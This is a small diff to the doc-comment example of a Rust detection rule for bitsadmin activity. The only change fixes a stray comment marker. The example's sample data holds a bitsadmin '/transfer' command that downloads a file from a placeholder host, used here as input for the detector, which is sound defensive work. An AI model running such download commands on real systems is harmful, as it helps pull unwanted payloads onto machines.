@@ -26,7 +26,7 @@ use crate::kql::{Datetime, Error};
 /// use std::sync::Arc;
 /// use arrow_array::{Array, RecordBatch, StringArray, cast::AsArray};
 /// use rulespec::fast::columns::bitsadmin_activity;
-/// ///
+///
 /// let cell = |name: &str| match name {
 ///     "FileName" => "bitsadmin.exe",
 ///     "ProcessCommandLine" => r"bitsadmin /transfer j http://x/a C:\a",
